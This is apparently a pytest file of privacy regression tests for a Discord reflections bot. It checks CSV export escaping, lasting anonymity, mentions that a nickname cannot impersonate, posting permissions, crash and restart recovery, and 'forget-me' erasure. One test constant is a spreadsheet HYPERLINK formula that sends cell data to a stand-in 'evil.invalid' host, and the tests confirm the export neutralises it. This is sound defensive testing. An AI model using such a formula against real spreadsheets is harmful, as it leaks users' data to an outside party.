"""Privacy holes found in review, each tested on what a user gets through the real client.

CSV exports that a spreadsheet would run, anonymity that did not last, a crash between
sharing and recording, a form lost across a restart, posting where the member may not,
impersonation by nickname, and ids too large for the database.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.discord_face.sharing import DiscordSharer
from bot.services.sharing import SharedPost
from tests.e2e import cohort_bot, embed_of, tick
from tests.fakediscord import CallbackType, FakeDiscord, FakeUser
from tests.fakediscord.common import Permissions
from tests.fakes import FakeClock
from tests.test_discord_reflections import (
    PRIVATE,
    add_member,
    answer,
    attachment,
    command,
    open_modal,
    owner,
    reflect,
    rows,
    shared_posts,
    submit,
    text_input,
)

FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")'
STAYS_ANONYMOUS = (
    "It was shared without your name before, so facilitators' exports keep it anonymous."
)


async def facilitator_csv(fake: FakeDiscord) -> list[dict[str, str]]:
    """Every reflection, as the server owner downloads it."""
    content, message = await command(fake, "cohort-reflections export", owner(fake))
    assert content.startswith("Here is your file"), content
    assert message is not None and message.ephemeral
    data = attachment(message, "reflections.csv").decode()
    return list(csv.DictReader(io.StringIO(data)))


async def test_csv_export_never_holds_a_live_formula_and_markdown_is_exact(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake = strict_fake_discord
    bob = add_member(fake, "Bob")
    texts = [FORMULA, "+1 agreed", "-1+2", "@SUM(A1:A2)", "\tindented"]
    async with cohort_bot(fake, tmp_path):
        for text in texts:
            await reflect(fake, text, bob, about="confrontation")
        table = await facilitator_csv(fake)
        assert [row["text"] for row in table] == [f"'{text}" for text in texts]
        for row in table:
            assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in row.values())

        _, message = await command(fake, "reflections export", bob)
        markdown = attachment(message, "my-reflections.md").decode()
        for text in texts:
            assert f"\n{text}\n" in markdown, "the member's own file is exactly as written"
        assert f"'{FORMULA}" not in markdown


async def test_anonymity_lasts_after_the_author_makes_it_private(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake = strict_fake_discord
    bob = add_member(fake, "Bob")
    async with cohort_bot(fake, tmp_path):
        await reflect(fake, "Read anonymously.", bob, about="confrontation", visibility="anonymous")
        content, _ = await command(fake, "reflections share", bob, id=1, visibility="private")
        assert content == f"Reflection #1: {PRIVATE} {STAYS_ANONYMOUS}"
        content, _ = await command(fake, "reflections share", bob, id=1, visibility="cohort")
        assert STAYS_ANONYMOUS in content

        [row] = await facilitator_csv(fake)
        assert (row["author_id"], row["text"]) == ("anonymous", "Read anonymously.")
        assert bob.id not in json.dumps(row)

    async with cohort_bot(
        fake, tmp_path, expect_sync=False, reflections={"facilitators_see_anonymous_authors": True}
    ):
        [row] = await facilitator_csv(fake)
        assert row["author_id"] == bob.id, "only when the configuration says so"


async def test_a_shared_post_names_its_author_in_a_way_a_nickname_cannot_fake(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake = strict_fake_discord
    bob = add_member(fake, "Bob")
    mallory = add_member(fake, "Bob")  # a second member who took the same display name
    anon = add_member(fake, "Anonymous member")
    async with cohort_bot(fake, tmp_path):
        await reflect(fake, "First view.", bob, about="confrontation", visibility="cohort")
        await reflect(fake, "Second view.", mallory, about="confrontation", visibility="cohort")
        await reflect(fake, "Named.", anon, about="confrontation", visibility="cohort")
        await reflect(fake, "Hidden.", about="confrontation", visibility="anonymous")
        real, fake_bob, named, hidden = shared_posts(fake, "general")
        assert real.content == f"Shared by <@{bob.id}>"
        assert fake_bob.content == f"Shared by <@{mallory.id}>"
        assert named.content == f"Shared by <@{anon.id}>"
        assert hidden.content.startswith("Shared anonymously") and "<@" not in hidden.content
        for post in (real, fake_bob, named, hidden):
            shown = json.dumps(embed_of(post))
            assert "Bob" not in shown and "Anonymous member" not in shown, "no display names"
        assert not any(m.would_ping for m in fake.messages.all()), "a mention pings nobody"


async def test_the_bot_does_not_post_where_the_member_may_not(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake = strict_fake_discord
    bob = add_member(fake, "Bob")
    general = fake.channel("general")
    assert fake.guild is not None
    general.set_overwrite(bob, deny=Permissions.SEND_MESSAGES)  # Bob may read, not post
    async with cohort_bot(fake, tmp_path):
        opener = await open_modal(fake, bob, about="confrontation", visibility="cohort")
        content, _ = await submit(fake, opener, "x" * 4000)
        assert content == (
            "Reflection #1 is saved but not shared: you may not post in that channel or thread "
            f"yourself, so I will not post there for you. {PRIVATE}"
        )
        assert shared_posts(fake, "general") == []
        assert rows(tmp_path, "visibility, pending_since") == [("private", None)]
        allowed = await reflect(fake, "Owner may.", owner(fake), about="confrontation")
        assert allowed.startswith("Saved reflection #2")
        shared, _ = await command(fake, "reflections share", owner(fake), id=2, visibility="cohort")
        assert shared.endswith("It is shared with the cohort under your name.")


async def test_a_form_open_across_a_restart_is_still_saved(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake = strict_fake_discord
    async with cohort_bot(fake, tmp_path):
        opener = await open_modal(fake, about="confrontation", visibility="cohort")
        field = text_input(opener)
    # The deploy: a new process, the same database; the member presses Submit now.
    async with cohort_bot(fake, tmp_path, expect_sync=False):
        handle = await fake.submit_modal(opener, {field["custom_id"]: "Written across a deploy."})
        content, _ = await answer(handle)
        assert content.startswith("Saved reflection #1 on ")
        assert content.endswith("It is shared with the cohort under your name.")
        assert rows(tmp_path, "text, visibility") == [("Written across a deploy.", "cohort")]
        [post] = shared_posts(fake, "general")
        assert embed_of(post)["description"] == "Written across a deploy."


async def test_a_refused_form_after_a_restart_hands_the_text_back(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake = strict_fake_discord
    async with cohort_bot(fake, tmp_path):
        opener = await open_modal(fake, about="confrontation")
        field = text_input(opener)
    async with cohort_bot(fake, tmp_path, expect_sync=False):
        handle = await fake.submit_modal(opener, {field["custom_id"]: "bad \x00 byte"})
        content, message = await answer(handle)
        assert "invisible control character" in content
        assert message is not None
        [kept] = message.attachments
        assert kept.data.decode() == "bad \x00 byte"
        assert rows(tmp_path) == []


async def _crash_after_sending(bot: object, fake: FakeDiscord, user: FakeUser) -> int:
    """Do what sharing does up to the moment a crash stops it: reserve, then send."""
    from bot.discord_face.client import CohortBot

    assert isinstance(bot, CohortBot)
    services = bot.services
    assert fake.guild is not None
    guild_id, channel_id = int(fake.guild.id), int(fake.channel("general").id)
    reserved = await services.store.reserve_share(
        guild_id, int(user.id), 1, channel_id, "cohort", now=services.clock()
    )
    assert reserved is not None
    title = services.reflections.topic_title(reserved.about_kind, reserved.about_id)
    post = SharedPost(reserved.id, title, reserved.text, reserved.author_id)
    return await DiscordSharer(bot).share(channel_id, post)


async def test_a_crash_between_sharing_and_recording_is_settled_and_forget_me_erases_it(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake, clock = strict_fake_discord, FakeClock()
    async with cohort_bot(fake, tmp_path, clock=clock) as bot:
        await reflect(fake, "About to be shared.", about="confrontation")
        message_id = await _crash_after_sending(bot, fake, fake.default_user)
        assert rows(tmp_path, "visibility, shared_message_id") == [("private", None)]
    clock.advance(minutes=2)
    async with cohort_bot(fake, tmp_path, clock=clock, expect_sync=False) as restarted:
        await tick(restarted)
        assert rows(tmp_path, "visibility, shared_message_id, pending_since") == [
            ("cohort", message_id, None)
        ], "the post that went out is on record"
        _, question = await command(fake, "reflections forget-me")
        assert question is not None
        click = await fake.click(question, "confirm:forget:0")
        await click.response()
        await click.wait_until(
            lambda h: h.original is not None and h.original.content.startswith("Done"),
            what="the erasure",
        )
        assert shared_posts(fake, "general") == [], "the public post is gone too"
        assert rows(tmp_path) == []


async def test_forget_me_never_claims_a_post_it_could_not_check(
    fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake, clock = fake_discord, FakeClock()
    async with cohort_bot(fake, tmp_path, clock=clock) as bot:
        await reflect(fake, "About to be shared.", about="confrontation")
        await reflect(fake, "Private.", about="confrontation")
        await _crash_after_sending(bot, fake, fake.default_user)
    clock.advance(minutes=2)
    fake.make_channel_forbidden("general")
    async with cohort_bot(fake, tmp_path, clock=clock, expect_sync=False):
        _, question = await command(fake, "reflections forget-me")
        assert question is not None
        click = await fake.click(question, "confirm:forget:0")
        await click.response()
        await click.wait_until(
            lambda h: h.original is not None and h.original.content.startswith("Erased"),
            what="the partial erasure",
        )
        assert question.content.startswith("Erased 1 reflection, with their shared copies.")
        assert "#1: I cannot read that channel or thread to check." in question.content
        assert not question.content.startswith("Done")
        assert rows(tmp_path, "id, pending_since IS NOT NULL") == [(1, 1)], "still on record"


async def test_a_share_reserved_but_never_sent_stays_private(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake, clock = strict_fake_discord, FakeClock()
    async with cohort_bot(fake, tmp_path, clock=clock) as bot:
        await reflect(fake, "Never sent.", about="confrontation")
        assert fake.guild is not None
        await bot.services.store.reserve_share(
            int(fake.guild.id),
            int(fake.default_user.id),
            1,
            int(fake.channel("general").id),
            "anonymous",
            now=datetime(2026, 3, 2, 7, 0, tzinfo=UTC),
        )
    clock.advance(minutes=2)
    async with cohort_bot(fake, tmp_path, clock=clock, expect_sync=False) as restarted:
        await tick(restarted)
        assert rows(tmp_path, "visibility, pending_since, seen_anonymously") == [
            ("private", None, 1)
        ], "released, not posted later; and it counts as seen anonymously"
        assert shared_posts(fake, "general") == []


async def test_ids_too_large_for_the_database_are_refused_cleanly(
    strict_fake_discord: FakeDiscord, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    fake = strict_fake_discord
    huge = "9" * 30
    async with cohort_bot(fake, tmp_path):
        await reflect(fake, "Mine.", about="confrontation")
        _, question = await command(fake, "reflections delete", id=1)
        assert question is not None
        question.components[0]["components"][0]["custom_id"] = f"confirm:delete:{huge}"
        click = await fake.click(question, f"confirm:delete:{huge}")
        first = await click.response()
        assert first.type in (CallbackType.DEFERRED_UPDATE_MESSAGE, CallbackType.UPDATE_MESSAGE)
        message = await click.next_followup()
        assert message.content.startswith("Reflection #9999")
        assert message.content.endswith("was not found among your reflections in this server.")
        question.components[0]["components"][0]["custom_id"] = f"mine:{huge}:>"
        page = await fake.click(question, f"mine:{huge}:>")
        shown = embed_of((await page.response()).data)
        assert shown["title"] == "Your reflections (1)"
        assert rows(tmp_path, "id") == [(1,)]
    assert [r for r in caplog.records if r.levelno >= logging.ERROR] == [], "refused, not crashed"


async def test_a_form_submitted_while_the_bot_shuts_down_comes_back_as_a_file(
    strict_fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    fake = strict_fake_discord
    async with cohort_bot(fake, tmp_path) as bot:
        opener = await open_modal(fake, about="confrontation")
        bot.closing = True  # SIGTERM arrived: the bot is draining before it exits
        handle = await fake.submit_modal(opener, {text_input(opener)["custom_id"]: "Mid-deploy."})
        content, message = await answer(handle)
        assert content.startswith("The bot is restarting, so nothing was saved.")
        assert message is not None
        [kept] = message.attachments
        assert kept.data.decode() == "Mid-deploy."
        assert rows(tmp_path) == []
